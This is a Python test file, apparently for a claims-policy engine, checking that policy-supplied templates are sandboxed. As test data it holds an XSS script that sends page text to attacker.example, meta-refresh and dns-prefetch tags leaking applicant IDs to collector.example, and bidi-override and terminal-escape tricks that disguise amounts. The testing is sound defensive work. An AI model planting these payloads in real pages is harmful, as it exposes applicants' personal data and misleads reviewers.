    path.write_text(text.replace(original, f"source_text: {name}"), encoding="utf-8")
    opened = _opens(monkeypatch)
    with no_hang():
        [p] = _problems(path)
    assert [o for o in opened if not o.is_dir()] == [path]  # the policy alone (and its folder): not the source text refused
    assert p.path == ("policy", "source_text") and p.line == _line_of(path, "source_text:")
    assert re.search(match, p.message), p.message


@pytest.mark.parametrize("special", ["/dev/zero", "/dev/urandom", "fifo", "folder"])
def test_a_device_or_fifo_as_the_policy_file_is_refused_before_reading(
    tmp_path: Path, special: str, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    if special == "fifo":
        target = str(_fifo(tmp_path / "policy.yaml"))
    elif special == "folder":
        target = str(tmp_path)
    else:
        if not Path(special).exists():
            pytest.skip(f"no {special}")
        target = special
    opened = _opens(monkeypatch)
    with no_hang():
        with pytest.raises(PolicyError, match="not a regular file"):
            engine.load_policy(target)
        with pytest.raises(PolicyError, match="not a regular file"):
            read_text(target)  # claims are read the same way
        assert main(["validate", target]) == 1
    assert "not a regular file" in capsys.readouterr().err
    assert Path(target) not in opened  # refused from its `stat`: never opened (opening some devices acts)


# --- batch: a policy's report template is bounded, the decisions survive ------------------------------------------


def test_a_runaway_report_template_fails_the_report_not_the_batch(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    source = "{% for r in rows %}{% for a in 'x'|center(99999) %}{% for b in 'x'|center(99999) %}{% endfor %}{% endfor %}{% endfor %}"
    path = _write(tmp_path, "  all:\n    report.html.j2: " + json.dumps(source) + "\n")
    own = engine.load_policy(path)  # valid: only running it shows the cost
    from engine.records.batch import run_batch

    # The budget's clock stands still for 100,000 checks (the round's explanations and a report page of one loop over
    # its rows take 4,389), then jumps far past any report's budget (2 s + 0.1 s per application): the runaway loops
    # are refused at their next check. (The report is drawn on a forked process, which takes the clock with it; a
    # budget that did not stop them would read it 1,000 times more: `_Clock`'s AssertionError, in the report's error.)
    still = 100_000
    monkeypatch.setattr(templating, "time", _Clock(lambda n: 0.0 if n <= still else 1e6, most=still + 1000))
    with no_hang():
        summary = run_batch(
            own, ROOT / "examples" / "round_2021.jsonl", tmp_path / "out", ledger_url=f"sqlite:///{tmp_path / 'l.sqlite'}", quiet=True
        )
    assert summary.report.startswith("failed: RenderError: policy template 'report.html.j2', line 1: rendering took longer than its budget")
    assert (tmp_path / "out" / "decisions.jsonl").read_text(encoding="utf-8").count("\n") == summary.decided > 0


def test_a_report_budget_grows_with_its_applications(policy: engine.CompiledPolicy, decision: engine.Decision) -> None:
    own = _unchecked(policy, "{{ rows|length }} rows\n", "report.html.j2")
    from engine.explaining.render import with_page_policy

    assert render_report(own, [decision] * 3) == with_page_policy("3 rows\n")  # (every page states its policy first)
    runaway = _unchecked(policy, "{% for r in rows %}{{ 'y'|center(900000) }}{% endfor %}", "report.html.j2")
    assert len(render_report(runaway, [decision] * 6)) == 6 * 900000 + len(with_page_policy(""))  # 5 MB + 1 MB per application: within
    with pytest.raises(RenderError, match="output longer than"):
        render_report(
            _unchecked(policy, "{% for r in rows %}{% for s in rows %}{{ 'y'|center(900000) }}{% endfor %}{% endfor %}", "report.html.j2"),
            [decision] * 8,
        )


# --- benign templates still work; the engine's own, in the sandbox, give the same bytes ------------------------------


def test_a_benign_override_renders(tmp_path: Path) -> None:
    path = _write(
        tmp_path,
        "  all:\n"
        "    explain.txt.j2: |\n"
        "      {{ m.title }}: {{ d.claim_id }}\n"
        "      {% for it in d['items'] %}{{ loop.index }}. {{ it.item }} {{ m.status[it.status] }} {{ it.amount | money }}"
        "{{ ' (%s)' | format(it.cites | join(', ')) }}\n"
        "      {% endfor %}{{ d.total | money }} {{ '0.5' | percent }} {{ d.applicant.name | upper }}\n",
    )
    own = engine.load_policy(path)
    d = engine.evaluate(own, claim(item("pledge_loan_interest", "c1", annual_interest_paid="100000.00"), claim_id="T-5"))
    text = _render(own, d)
    assert text == "申报审查说明: T-5\n1. c1 给予支持 50,000.00 元 (第六条第（一）项)\n50,000.00 元 50% 北京平谷示例科技有限公司\n"


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_the_engines_templates_give_the_same_bytes_in_the_sandbox(policy: engine.CompiledPolicy, tmp_path: Path, lang: str) -> None:
    """A policy with any template of its own renders everything in the sandbox: the engine's templates too."""
    path = _write(tmp_path, '  all:\n    unused.j2: "-"\n')
    own = engine.load_policy(path)
    assert renderer(own, lang).sandboxed and not renderer(policy, lang).sandboxed
    golden = sorted((ROOT / "tests" / "golden").glob("*.claim.json"))
    from engine.records.inputs import read_document

    trusted, sandboxed = [], []
    for g in golden:
        data, _ = read_document(g)
        trusted.append(engine.evaluate(policy, data).to_dict())
        sandboxed.append(engine.evaluate(own, data).to_dict())
    same = lambda text: text.replace(own.content_hash, policy.content_hash)  # noqa: E731
    for a, b in zip(trusted, sandboxed, strict=True):
        for fmt in ("text", "md", "html"):
            assert same(explain(own, b, lang, fmt)) == explain(policy, a, lang, fmt), (a["claim_id"], fmt)
    assert same(render_report(own, sandboxed, lang)) == render_report(policy, trusted, lang)


def test_the_fast_text_path_is_kept_when_no_text_template_is_overridden(tmp_path: Path) -> None:
    path = _write(tmp_path, '  all:\n    explain.md.j2: "{{ d.claim_id }}"\n')
    own = engine.load_policy(path)
    r = renderer(own, "zh")
    assert r.sandboxed and r.text_explainer() is not None
    d = engine.evaluate(own, claim(item("pledge_loan_interest", "c1"), claim_id="T-6"))
    assert explain(own, d) == r.explain(d.to_dict(), "text")
    assert explain(own, d, "zh", "md") == "T-6"


# --- a policy's HTML cannot run script on a page that lists every applicant (red-team, session 17) ---------------------

SCRIPTED_BODY = (
    "  all:\n"
    "    _explain_body.html.j2: \"<script>new Image().src='https://attacker.example/c?'+encodeURIComponent("
    'document.body.innerText)</script><img src=x onerror=\\"document.title=\'PWNED\'\\">{{ x.title }}"\n'
)


def _page_policy(page: str) -> str:
    found = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">', page)
    assert found is not None, page[:300]
    return found.group(1)


def test_every_html_page_states_a_policy_that_runs_only_the_engine_s_own_script(tmp_path: Path) -> None:
    # a policy's template wrote `<script>` (and an `onerror` handler) into the reviewers' report.html and every
    # explanation page: it would have run when a reviewer opened the file, with every applicant's name and id on the
    # page. Each page now states its content security policy before anything a template wrote, allowing the
    # engine's one script by its hash; a script of the policy's is on the page but does not run (checked in a browser
    # by `test_a_policy_s_script_does_not_run_in_a_browser`)
    import base64
    import hashlib

    from engine.explaining.render import PAGE_CSP, REPORT_SCRIPT

    own = engine.load_policy(_write(tmp_path, SCRIPTED_BODY))
    decided = engine.evaluate(own, claim(item("pledge_loan_interest", "c1"), claim_id="T-9"))
    engine_hash = base64.b64encode(hashlib.sha256(REPORT_SCRIPT.encode("utf-8")).digest()).decode("ascii")
    assert PAGE_CSP == (
        f"default-src 'none'; style-src 'unsafe-inline'; img-src data:; script-src 'sha256-{engine_hash}'; "
        "base-uri 'none'; form-action 'none'"
    )
    page = explain(own, decided, "zh", "html")
    report = render_report(own, [decided], "zh")
    for text in (page, report):
        assert "attacker.example" in text  # (the policy's HTML is there, as it wrote it)
        assert _page_policy(text) == PAGE_CSP
        assert text.index("Content-Security-Policy") < text.index("<script") and text.index("Content-Security-Policy") < text.index(
            "<meta charset"
        )
        assert text.startswith('<!DOCTYPE html>\n<html lang="zh-CN">\n<head><meta http-equiv="Content-Security-Policy"')
    scripts = re.findall(r"<script>(.*?)</script>", report, re.S)
    allowed = [s for s in scripts if base64.b64encode(hashlib.sha256(s.encode("utf-8")).digest()).decode("ascii") == engine_hash]
    assert len(scripts) == 2 and allowed == [REPORT_SCRIPT]  # the policy's, not allowed; the engine's, allowed
    out = tmp_path / "out"
    assert main(["batch", "--policy", str(_write(tmp_path, SCRIPTED_BODY)), str(ROOT / "examples" / "round_2021.jsonl"), "--out",
                 str(out), "-q", "--ledger", f"sqlite:///{tmp_path / 'l.sqlite'}"]) == 3  # fmt: skip
    written = (out / "report.html").read_text(encoding="utf-8")  # (written in pieces: its policy first all the same)
    assert _page_policy(written) == PAGE_CSP and written.index("Content-Security-Policy") < written.index("<script")


@pytest.mark.skipif(shutil.which("chromium") is None, reason="needs a headless Chromium (Debian's package chromium), not installed here")
def test_a_policy_s_script_does_not_run_in_a_browser(tmp_path: Path) -> None:
    import subprocess

    out = tmp_path / "out"
    main(["batch", "--policy", str(_write(tmp_path, SCRIPTED_BODY)), str(ROOT / "examples" / "round_2021.jsonl"), "--out", str(out),
          "-q", "--ledger", f"sqlite:///{tmp_path / 'l.sqlite'}"])  # fmt: skip
    flags = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking", "--no-first-run"]
    flags += ["--disable-component-update", "--disable-sync", f"--user-data-dir={tmp_path / 'browser'}", "--dump-dom"]
    dom = subprocess.run(
        ["chromium", *flags, (out / "report.html").as_uri()], capture_output=True, text=True, timeout=120, check=False
    ).stdout
    assert 'data-js="ready"' in dom  # the engine's own script ran (it marks the page when it has)
    assert "PWNED" not in dom.split("</title>")[0]  # the policy's handler did not


@pytest.mark.parametrize(
    "source",
    ["{{ '\\x1b[2J' }}", "{{ '%c' | format(27) }}]0;title", "{{ '\\u202e' }}evil", "{{ '\\x07' }}"],
    ids=["escape sequence", "format %c", "bidi override", "bell"],
)
def test_a_template_making_a_character_no_reader_sees_is_refused(
    policy: engine.CompiledPolicy, decision: engine.Decision, source: str
) -> None:
    """A template's string escapes and `format` made ESC (the terminal cleared, its title set) and U+202E in the
    text explanation, while validate and lint passed and the engine's own decision record then failed to read back."""
    said = _refused_at_render(policy, decision, source, "no reader sees as written")
    assert "U+" in said


@pytest.mark.parametrize(
    ("name", "source", "match"),
    [
        ("explain.html.j2", "<p>&#x202E;00.0003&#x202C; yuan</p>", "no reader sees as written"),
        ("explain.md.j2", "Total: &#8238;00.0003&#8236; yuan", "no reader sees as written"),
        ("explain.html.j2", "<p>&rlm;3000</p>", "no reader sees as written"),
        ("explain.html.j2", '<bdo dir="rtl">00.0003</bdo>', "reorders the text"),
        ("explain.html.j2", '<p style="unicode-bidi:bidi-override;direction:rtl">00.0003</p>', "reorders the text"),
        ("explain.html.j2", "<p>&#x000000202e;00.0003</p>", "no reader sees as written"),
        ("explain.html.j2", '<style>.x::before{content:"\\202e"}</style><p class="x">00.0003</p>', "no reader sees as written"),
        ("explain.html.j2", '<p style="unicode\\-bidi:bidi-override;dire\\63tion:rtl">00.0003</p>', "reorders the text"),
        ("explain.html.j2", '<p style="unicode&#45;bidi:bidi-override;direction&#58;rtl">00.0003</p>', "reorders the text"),
        ("explain.html.j2", '<p dir="&#114;tl">00.0003</p>', "reorders the text"),
        ("explain.html.j2", '<img src="data:image/svg+xml,%3Csvg%3E%3Ctext%3E%E2%80%AE00.0003%3C/text%3E%3C/svg%3E">', "no reader sees"),
        ("explain.html.j2", '<img src="data:image/svg+xml;base64,PHN2Zz48dGV4dD7igK4wMC4wMDAzPC90ZXh0Pjwvc3ZnPg==">', "no reader sees"),
        ("explain.html.j2", '<img src="data:image/svg+xml,%3Csvg%3E%3Ctext%3E%26%23x202e%3B00%3C/text%3E%3C/svg%3E">', "no reader sees"),
        ("explain.html.j2", '<svg><text direction="rtl">00.0003</text></svg>', "reorders the text"),
        ("explain.md.j2", "Total: \\\\&#8238;00.0003 yuan", "no reader sees as written"),
    ],
    ids=["hex reference", "decimal reference in Markdown", "named reference", "bdo", "style", "zero-padded reference"]
    + ["css content escape", "css escaped names", "references in an attribute", "dir by reference", "svg data address"]
    + ["base64 svg", "svg reference percent-encoded", "svg direction attribute", "reference after an escaped backslash"],
)
def test_a_page_or_markdown_reordering_what_a_reader_sees_is_refused(
    policy: engine.CompiledPolicy, decision: engine.Decision, name: str, source: str, match: str
) -> None:
    """A character reference is the character to a browser or a Markdown viewer (`&#x202E;00.0003` shows 3000.00),
    and `<bdo>` or a style reorders the text with no character at all: each passed the check of the output's own
    characters."""
    _refused_at_render(policy, decision, source, match, name)


@pytest.mark.parametrize(
    "source",
    [
        '<meta http-equiv="refresh" content="0;url=https://collector.example/?a={{ x.applicant_id|urlencode }}"><p>{{ x.title }}</p>',
        '<link rel="dns-prefetch" href="//{{ x.applicant_id|lower }}.collector.example"><p>{{ x.title }}</p>',
        '<link rel="Preconnect stylesheet" href="https://collector.example/"><p>{{ x.title }}</p>',
        '<META HTTP-EQUIV="Refresh" CONTENT="0;url=https://collector.example/">',
    ],
    ids=["meta refresh", "dns-prefetch", "preconnect among rels", "upper case"],
)
def test_a_page_that_goes_or_connects_elsewhere_by_itself_is_refused(
    policy: engine.CompiledPolicy, decision: engine.Decision, source: str
) -> None:
    """The page's content security policy stops scripts and loads, not a refresh to another address or a host
    looked up ahead: a template writing either passed validate and lint, and an officer who opened the page sent
    the applicant's id and name to the address."""
    said = _refused_at_render(policy, decision, source, "goes or connects elsewhere by itself", "explain.html.j2")
    assert "<meta http-equiv=" in said or "<link rel=" in said


def test_explain_says_a_template_refused_at_render_as_bad_input(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A policy template that fails or passes a limit while rendering is the policy's fault: exit 1 (invalid input),
    not 2 (a usage error: the command line was right)."""

    path = _write(tmp_path, "  all:\n    explain.txt.j2: " + json.dumps("{{ '%c' | format(27) }}") + "\n")
    claim_file = tmp_path / "c.json"
    claim_file.write_text(json.dumps(claim(item("pledge_loan_interest", "c1", annual_interest_paid="500000.00"), claim_id="T-1")))
    assert main(["explain", "--policy", str(path), str(claim_file), "--lang", "en"]) == 1
    assert "no reader sees as written" in capsys.readouterr().err


def test_a_reference_written_in_a_claim_is_inert_in_markdown(policy: engine.CompiledPolicy) -> None:
    """A name holding `&rlm;` reached the Markdown as a reference, a right-to-left mark to a viewer; with any template
    override the engine's own Markdown was then refused, and the refusal blamed on the policy."""
    data = claim(item("pledge_loan_interest", "c1", annual_interest_paid="500000.00"), claim_id="T-1")
    data["applicant"]["name"] = "Acme&rlm;&shy; Co"
    made = engine.evaluate(policy, data)
    assert "Acme\\&rlm;\\&shy; Co" in _render(policy, made, "md")
    assert "Acme\\&rlm;" in _render(_unchecked(policy, "{{ 1 }}"), made, "md")  # (an override of the text only)


@pytest.mark.parametrize(
    "name",
    ['HTML dir="rtl" note', "see data:text/plain,a%E2%80%8Bb", "data:,x%0D%0Ay", '<style>a{content:"\\202e"}</style>', "<style>" * 70],
    ids=["dir in words", "data words", "data words with a line end", "style in words", "many style words"],
)
def test_an_applicants_words_are_text_to_the_page_check_whatever_they_spell(
    policy: engine.CompiledPolicy, name: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The page check decoded the whole page and searched it for markup: an applicant's name spelling `<style>` or
    `dir="rtl"` refused the engine's own page (blamed on the policy), and `<style>` many times took 15 s for 100
    items. A browser reads them as text, and so does the check now: it reads the page once, and the words open no
    element (the reader sees the same tags as in the page of an applicant named plainly)."""
    fed: list[str] = []
    tags: list[str] = []

    class Reader(templating._PageReader):
        def feed(self, data: str) -> None:
            fed.append(data)
            super().feed(data)

        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            tags.append(tag)
            super().handle_starttag(tag, attrs)

    monkeypatch.setattr(templating, "_PageReader", Reader)
    own = _unchecked(policy, "{{ 1 }}")  # (an override of the text only: every page checked)
    read: list[list[str]] = []
    for named in ("Acme Co", name):
        data = claim(item("pledge_loan_interest", "c1", annual_interest_paid="500000.00"), claim_id="T-1")
        data["applicant"]["name"] = named
        fed.clear()
        tags.clear()
        with no_hang():
            page = _render(own, engine.evaluate(policy, data), "html")
        assert len(fed) == 1 and len(fed[0]) <= len(page)  # the page read once (no data: address in it read again)
        read.append(list(tags))
    assert "T-1" in page
    assert read[1] == read[0]  # the same elements as the plain name's page: the words opened none
